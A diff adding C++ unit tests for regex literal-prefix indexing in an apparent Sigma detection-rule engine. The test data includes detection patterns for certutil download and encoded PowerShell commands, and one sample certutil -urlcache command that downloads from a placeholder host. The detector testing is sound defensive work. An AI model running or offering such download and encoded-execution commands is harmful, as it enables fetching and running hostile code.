@@ -483,3 +483,95 @@ TEST_CASE("ListFolder reports each entry once with its kind, and stops when aske
     CHECK(error != 0);
     CHECK_FALSE(ListFolder(nullptr, visit, &seen, &error));
 }
+
+TEST_CASE("an expression's literal start narrows the candidates and never loses a match") {
+    SUBCASE("the text every match contains") {
+        struct Case {
+            const char16_t* pattern;
+            bool caseless;
+            const char16_t* required; // empty: none is sure
+        };
+        const Case cases[] = {
+            {u"certutil\\.exe", false, u"certutil"},
+            {u"(?i)CertUtil\\s+-urlcache", false, u"certutil"},
+            {u"^Powershell", false, u"powershell"},
+            // Caseless: k and s have forms outside ASCII, so they split the text.
+            {u"(?i)^powershell", false, u"power"},
+            {u"powershell", true, u"power"},
+            {u"(?s)(?m)^abc", false, u"abc"},
+            {u"abcd?e", false, u"abc"},
+            {u"abcd*", false, u"abc"},
+            {u"abcd{0,2}", false, u"abc"},
+            {u"abcd+", false, u"abcd"},
+            {u"foo(bar|baz)", false, u"foo"},
+            {u"foo[|]bar", false, u"foo"},
+            {u"xy", false, u"xy"},
+            {u"x", false, u""},
+            {u"foo|barbaz", false, u""},
+            {u"a\\|b|c", false, u""},
+            {u"foo[|]|bar", false, u""},
+            {u"(foo|bar)baz", false, u""},
+            {u"(?:)foobar", false, u""},
+            {u"(?i-s)foobar", false, u""},
+            {u"(?x)foo bar", false, u""},
+            {u"foo(?#(x)|bar", false, u""},
+            {u"\\Qfoo|bar\\E", false, u""},
+            {u"foo[[:alpha:]]|bar", false, u""},
+        };
+        for (const Case& c : cases) {
+            CAPTURE(Utf8(c.pattern));
+            std::u16string out = u"stale";
+            const bool found = sigma::RegexRequiredText(c.pattern, std::char_traits<char16_t>::length(c.pattern),
+                                                 c.caseless, &out);
+            CHECK(found == (c.required[0] != 0));
+            CHECK(out == c.required);
+        }
+    }
+    SUBCASE("each expression and the same one the index cannot read agree on every row") {
+        const char* patterns[] = {
+            "certutil\\.exe",   "(?i)CertUtil\\s+-urlcache", "^powershell",   "(?i)^powershell",
+            "(?i)invoke-expression", "abcd?e",              "abcd*f",        "foo(bar|baz)",
+            "foo|barbaz",       "(?i)decode123\\s+[a-z]{2,8}\\.(exe|dll)",   "x[yz]+\\d",
+        };
+        SigmaRuleSet* set = NewSigmaRuleSet();
+        for (const char* pattern : patterns) {
+            // "(?:)" in front changes no match, but leaves the index nothing to read.
+            for (const std::string& p : {std::string(pattern), "(?:)" + std::string(pattern)}) {
+                const std::string text = Rule("process_creation", "    sel:\n        CommandLine|re: '" + p +
+                                                                      "'\n    condition: sel\n");
+                REQUIRE(AddSigmaRuleText(set, text.data(), text.size(), u"re.yml"));
+            }
+        }
+        const char16_t* lines[] = {
+            u"certutil.exe -urlcache -split -f http://x/a", u"CERTUTIL.EXE", u"certutil exe",
+            u"CertUtil   -URLCACHE", u"powershell -enc", u"POWERSHELL -enc", u"x powershell",
+            u"INVO\u212AE-EXPRE\u017FSION", u"Invoke-Expression", u"abce", u"abe", u"abddde", u"abcf",
+            u"abf", u"foobaz", u"foo", u"barbaz", u"DECODE123  abc.EXE", u"decode123 a.exe", u"xyz7",
+            u"",
+        };
+        int fired = 0;
+        for (const char16_t* line : lines) {
+            CAPTURE(Utf8(line));
+            View view;
+            view.Set(kSigmaCommandLine, line);
+            int32_t hits[64];
+            const int32_t n = MatchSigmaRules(set, view.Build(1u << kSigmaProcessCreation), hits, 64);
+            REQUIRE(n <= 64);
+            bool hit[64] = {};
+            for (int32_t i = 0; i < n; ++i)
+                hit[hits[i]] = true;
+            for (size_t r = 0; r < std::size(patterns); ++r) {
+                CAPTURE(patterns[r]);
+                CHECK(hit[2 * r] == hit[2 * r + 1]);
+                fired += hit[2 * r] ? 1 : 0;
+            }
+        }
+        CHECK(fired >= 12); // the rows meet most expressions, not none
+        // The expressions with a sure text are no longer tried on every row.
+        const std::vector<uint32_t>& always = set->categories[kSigmaProcessCreation].always;
+        CHECK(std::find(always.begin(), always.end(), 0u) == always.end());
+        CHECK(std::find(always.begin(), always.end(), 1u) != always.end());
+        CHECK(std::find(always.begin(), always.end(), 16u) != always.end()); // foo|barbaz
+        FreeSigmaRuleSet(set);
+    }
+}
